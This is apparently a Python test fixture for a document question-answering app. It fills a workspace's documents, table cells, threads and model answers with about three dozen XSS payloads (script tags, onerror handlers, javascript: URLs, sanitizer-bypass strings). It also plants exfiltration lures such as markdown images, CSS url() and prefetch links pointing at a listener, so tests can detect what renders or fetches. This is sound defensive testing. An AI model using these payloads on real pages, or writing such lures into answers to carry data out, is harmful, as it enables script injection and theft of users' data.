"""A workspace and the address of a listener in, the same workspace full of words that are scripts and lures out.

Every place that a person's, a document's or a model's words are shown gets every payload, each with a mark of its own,
`PLACE-NUMBER`, so that a browser can tell which was shown and which, if any, ran. The lures are what a model may be
talked into writing to carry words out: pictures, links and styles from elsewhere.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import numpy as np

from data.answers import (
    Answer,
    Calculation,
    Check,
    Citation,
    Claim,
    Compared,
    Comparison,
    ComparisonRow,
    Firing,
    Operand,
)
from data.codec import answer_to_json
from data.errors import MffmError
from data.locators import AudioSpan, Box, FigureRegion, Locator, TableCell, TextSpan
from data.people import LOCAL
from data.store.store import Store
from data.types import (
    Cell,
    CheckKind,
    Description,
    Evidence,
    Fact,
    Grid,
    Hidden,
    Period,
    Reading,
    SelfCheck,
    Statement,
    Way,
)

SCRIPTS = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe src="javascript:RUN"></iframe>',
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<body onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=RUN>x</b>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    '<a href="javascript:RUN" autofocus onfocus=RUN>x</a>',
    '<form action="javascript:RUN"><button autofocus onfocus=RUN>x</button></form>',
    '<object data="javascript:RUN"></object>',
    '<embed src="javascript:RUN">',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    '"><script>RUN</script>',
    "'><img src=x onerror=RUN>",
    "</textarea><script>RUN</script>",
    "</style></title><script>RUN</script>",
    "--><script>RUN</script>",
    "&lt;script&gt;RUN&lt;/script&gt;<script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<template><script>RUN</script></template><img src=x onerror=RUN>",
    "[x](javascript:RUN)",
    "![x](javascript:RUN)",
    "<javascript:RUN>",
    "[x]: javascript:RUN",
    "$\\href{javascript:RUN}{x}$",
    "${RUN}{{RUN}}<%= RUN %>",
    ":material/<img src=x onerror=RUN>:",
)
LURES = (
    "![x](LISTENER)",
    "![x][r]\n\n[r]: LISTENER",
    "[![x](LISTENER)](LISTENER)",
    "[read more](LISTENER)",
    "[read more][r]\n\n[r]: LISTENER",
    "<LISTENER>",
    "see LISTENER for more",
    "<img src=LISTENER>",
    '<img srcset="LISTENER 2x">',
    '<picture><source srcset="LISTENER"><img></picture>',
    "<b style=\"background:url('LISTENER')\">x</b>",
    "<style>@import 'LISTENER';</style>",
    "<style>*{background:url(LISTENER)}</style>",
    '<link rel=stylesheet href="LISTENER">',
    '<link rel=prefetch href="LISTENER">',
    '<link rel=dns-prefetch href="LISTENER">',
    '<iframe src="LISTENER"></iframe>',
    '<object data="LISTENER"></object>',
    '<embed src="LISTENER">',
    '<video src="LISTENER" autoplay></video>',
    '<video poster="LISTENER"></video>',
    '<audio src="LISTENER" autoplay></audio>',
    '<svg><image href="LISTENER"/></svg>',
    '<svg><use href="LISTENER#x"/></svg>',
    '<input type=image src="LISTENER">',
    '<body background="LISTENER">',
    '<table background="LISTENER"><td>x</td></table>',
    '<meta http-equiv=refresh content="0;url=LISTENER">',
    '<base href="LISTENER">',
    '<form action="LISTENER"><button>go</button></form>',
    "$\\includegraphics{LISTENER}$",
)
THIRD = 3
"""Of names and titles, of which each takes a document or a conversation, only so many are planted."""
NEWS = "Brightwater opened a plant in Lyon for cordless tools, and its staff praised the new canteen."
"""What the one honest document says, so that a model is asked about something."""


@dataclass(frozen=True, slots=True)
class Planted:
    """Where the words stand: the conversations to open, and the answer that can go into a memo."""

    answered: int
    refused: int
    failed: int
    answer: int


def payloads(place: str, listener: str) -> list[str]:
    """Every script and every lure for one place, each after its mark. On one line where a place has one line."""
    made: list[str] = []
    for number, template in enumerate((*SCRIPTS, *LURES)):
        mark = f"{place}-{number:02d}"
        address = f"{listener}/{mark}"
        run = f"(top.ran=top.ran||[]).push('{mark}')"
        made.append(f"{mark} {template.replace('RUN', run).replace('LISTENER', address)}")
    return made


def marks(text: str) -> set[str]:
    """The marks of the payloads that stand in a text."""
    return set(re.findall(r"\b[a-z]+-\d\d\b", text))


def plant(workspace: Path, listener: str) -> Planted:
    """Fill the workspace."""
    store = Store.open(workspace, LOCAL)

    def each(place: str) -> list[str]:
        return payloads(place, listener)

    def whole(place: str) -> str:
        return "\n".join(each(place))

    main = _document(store, workspace, each, whole)
    for title in each("thread")[::THIRD]:
        store.new_thread(title)
    answer = _answer(store, main, each, whole)
    answered = store.new_thread("title " + each("title")[0])
    store.say(answered, "user", {"text": whole("question")})
    kept = store.say(answered, "assistant", {"answer": answer_to_json(answer)})
    refused = store.new_thread("refused")
    reasons = Answer("q", (), answer.citations, refused=True, reason=whole("reason"))
    store.say(refused, "assistant", {"answer": answer_to_json(reasons)})
    failed = store.new_thread("failed")
    store.say(failed, "assistant", {"error": whole("error"), "remedy": whole("remedy")})
    store.say(failed, "assistant", {"stopped": True, "text": whole("stopped")})
    store.close()
    return Planted(answered, refused, failed, kept)


def _document(store: Store, workspace: Path, each: Callable[[str], list[str]], whole: Callable[[str], str]) -> str:
    """One document with every payload in every part, one of each name, an honest one, and one that is broken."""
    labels = each("label")
    rows = [(Cell(""), Cell("2025"), Cell(whole("heading")))]
    rows += [(Cell(label), Cell("1"), Cell(text)) for label, text in zip(labels, each("cell"), strict=True)]
    grid = Grid(tuple(rows), 1, whole("caption"), whole("units"))
    evidence = (
        Evidence(TableCell(1), "table", whole("context"), grid),
        Evidence(TextSpan(0, 9), whole("passage"), whole("path")),
        Evidence(AudioSpan(1.0, 2.0, whole("speaker")), f"{whole('spoken')}\nRevenue was $5 million."),
        Evidence(FigureRegion(1, Box(0, 0, 9, 9)), whole("figure")),
    )
    facts = tuple(
        Fact(label, Decimal(row), str(row), Period(2025, 12), TableCell(1, row, 1), "USD", 6, None, Statement.INCOME)
        for row, label in enumerate(labels, 1)
    )
    hidden = tuple(Hidden(Way.COLOUR, text) for text in each("hidden"))
    checks = tuple(SelfCheck(CheckKind.FOOTS, False, 1, (1,), 1, text, Decimal(1)) for text in each("check"))
    for number, (name, company) in enumerate(zip(each("name")[::THIRD], each("company")[::THIRD], strict=True)):
        document = _received(store, workspace, name, str(number))
        told = Description(company, title=company, form="earnings call", fiscal_year=2025)
        parts = (evidence, facts, tuple(each("warning")), hidden, checks) if number == 0 else ((), (), (), (), ())
        reading = Reading(told, parts[0], parts[1], 1, *parts[2:])
        store.commit(document, reading, np.zeros((len(parts[0]), 2), np.float32), "none")
    honest = _received(store, workspace, "honest.txt", NEWS)
    reading = Reading(
        Description("northern Brightwater", ("Brightwater",)), (Evidence(TextSpan(0, len(NEWS)), NEWS),), pages=1
    )
    store.commit(honest, reading, np.zeros((1, 2), np.float32), "none")
    broken = _received(store, workspace, "broken.pdf", "broken")
    store.fail(broken, MffmError(whole("failure")))
    return hashlib.sha256(b"0").hexdigest()


def _received(store: Store, workspace: Path, name: str, content: str) -> str:
    path = workspace / "planted.txt"
    path.write_text(content)
    document, _ = store.receive(path, name)
    path.unlink()
    return document.id


def _answer(store: Store, main: str, each: Callable[[str], list[str]], whole: Callable[[str], str]) -> Answer:
    """An answer that cites the table, the passage, the call and the figure, and holds every payload in every part."""
    name = store.document(main).name
    places: list[tuple[Locator, int]] = [(piece.locator, piece.id) for piece in store.evidence_of(main)]
    citations = tuple(
        Citation(n, name, main, evidence, place, whole("quote")) for n, (place, evidence) in enumerate(places, 1)
    )
    shown = tuple(range(1, len(citations) + 1))
    claims = [Claim(text, shown, Check.QUOTED) for text in each("claim")]
    claims.append(Claim("Struck.", shown, Check.UNSUPPORTED, tuple(each("fault"))))
    operand = Operand(whole("operand"), Decimal(5), "USD", Period(2025, 12), 1, whole("printed"))
    calculation = Calculation(
        whole("calculation"), whole("formula"), (operand, operand), Decimal(5), "USD", whole("result"),
        tuple(each("step")), tuple(each("doubt")),
    )  # fmt: skip
    rows = tuple(ComparisonRow(text, (Compared(text, Decimal(1), "USD", (1,)),)) for text in each("compared"))
    return Answer(
        "What stands here?",
        tuple(claims),
        citations,
        (calculation,),
        comparison=Comparison(whole("comparison"), (whole("column"),), rows),
        mode="served",
        model=whole("model"),
        dropped=tuple(f"“{text}”" for text in each("dropped")),
        notes=tuple(each("note")),
        firings=(Firing("rule", "answer", "warn", whole("rule")),),
    )
